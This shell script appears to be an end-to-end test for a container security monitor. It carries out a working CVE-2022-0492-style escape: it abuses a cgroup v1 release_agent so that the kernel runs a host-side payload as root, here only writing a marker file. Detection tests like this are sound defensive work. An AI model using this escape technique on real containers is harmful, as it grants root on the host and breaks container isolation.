#!/bin/sh
# Attack: CVE-2022-0492 style escape through a cgroup v1 release_agent. It mounts
# a NEW named cgroup v1 hierarchy (never one of the host's controllers, whose
# release_agent it must not touch), creates a child cgroup, sets
# notify_on_release, points release_agent at a payload and empties the child, so
# the kernel runs the payload as root on the host. The payload only writes a
# marker file in the test's directory.
#
#   E2E_DIR        the test directory inside the container (bind mount)
#   E2E_HOST_DIR   the host path of that directory (where the payload lives)
#   E2E_CGROUP_NAME  name of the v1 hierarchy to create (name=...)
# Expected: cgroup_escape. In enforce mode the process is killed at the open of
# notify_on_release and the marker never appears.
set -u
sleep "${E2E_DELAY:-0}"
dir=${E2E_DIR:-/e2e}
host=${E2E_HOST_DIR:?E2E_HOST_DIR: host path of $dir}
name=${E2E_CGROUP_NAME:-cwe2e$$}
cg=/tmp/cg-$name
printf '#!/bin/sh\necho "release_agent ran: $*" >%s/release_agent.marker\n' "$host" >"$dir/payload.sh"
chmod 755 "$dir/payload.sh"
mkdir -p "$cg"
mount -t cgroup -o "none,name=$name" cgroup "$cg" || { echo "mount of a named cgroup v1 hierarchy refused"; exit 1; }
mkdir -p "$cg/x"
echo 1 >"$cg/x/notify_on_release"
echo "$host/payload.sh" >"$cg/release_agent"
sh -c "echo \$\$ >$cg/x/cgroup.procs; true"
i=0
while [ ! -e "$dir/release_agent.marker" ] && [ "$i" -lt 50 ]; do
	sleep 0.1
	i=$((i + 1))
done
[ -e "$dir/release_agent.marker" ] && echo "escaped: $(cat "$dir/release_agent.marker")" || echo "no marker"
rmdir "$cg/x"
# The hierarchy dies at umount only if the child is fully gone by then; it is
# released asynchronously, so give it a moment (the test also cleans up).
sleep 1
umount "$cg"
